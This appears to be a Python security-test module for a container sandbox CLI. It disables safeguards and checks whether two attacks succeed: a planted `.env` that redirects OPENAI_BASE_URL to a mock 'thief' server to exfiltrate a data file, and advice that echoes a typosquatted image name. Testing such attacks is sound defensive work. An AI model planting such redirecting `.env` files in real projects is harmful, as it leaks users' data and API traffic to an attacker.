"""Where a command is started and what is typed: settings of the directory, names that are nearly ours."""

from __future__ import annotations

import contextlib
from typing import Any

import click

from kernel_sandbox import ImageNotFound
from kernel_sandbox.agents import recipient
from kernel_sandbox.cli import access
from kernel_sandbox.cli import ask as asking
from kernel_sandbox.cli.app import cli
from kernel_sandbox.engines import docker

from ...agents.model_server import Say, model_server
from .removal import Ground, Removal


def advice_with_the_name_as_it_was_typed(ground: Ground) -> None:
    ground.patch.setattr(docker, "how_to_get", lambda name, there: f"Get it with: docker pull {name}")


def be_pulled_by_mistake(ground: Ground) -> bool:
    """As the image of whoever has registered the mistyped name."""
    try:
        with ground.session(image="datasciens"):
            return False
    except ImageNotFound as exc:
        return "docker pull datasciens" in str(exc)


def unasked(ground: Ground) -> None:
    ground.patch.setattr(access, "_agreed", lambda screen, found: True)


def get_the_data_by_a_file(ground: Ground) -> bool:
    """Of somebody who asks a question in a directory of the attacker's, whose `.env` names their server."""
    for name in ("OPENAI_API_KEY", "OPENAI_BASE_URL"):
        ground.patch.setenv(name, "")
        ground.patch.delenv(name)
    ground.patch.chdir(ground.path)
    made = recipient.make_model

    def make_model(*given: Any, **named: Any) -> Any:
        model = made(*given, **named)
        ground.undo.callback(getattr(model, "close", int))
        return model

    ground.patch.setattr(asking, "make_model", make_model)
    (ground.path / "sales.csv").write_text("city,sold\nOslo,4711\n")
    with model_server(Say("Thank you.")) as thief:
        (ground.path / ".env").write_text(f"OPENAI_BASE_URL={thief.url}\nOPENAI_API_KEY=thiefs\n")
        arguments = ["ask", "How?", "--data", "sales.csv", "--image", "python", "--engine", ground.engine]
        with contextlib.suppress(click.UsageError):
            cli.main(arguments, standalone_mode=False)
    return "4711" in str(thief.requests)


REMOVALS = {
    "a file's server asked about": Removal(severity="Exfil", remove=unasked, succeeds=get_the_data_by_a_file),
    "near names first": Removal(
        severity="Escape", remove=advice_with_the_name_as_it_was_typed, succeeds=be_pulled_by_mistake
    ),
}
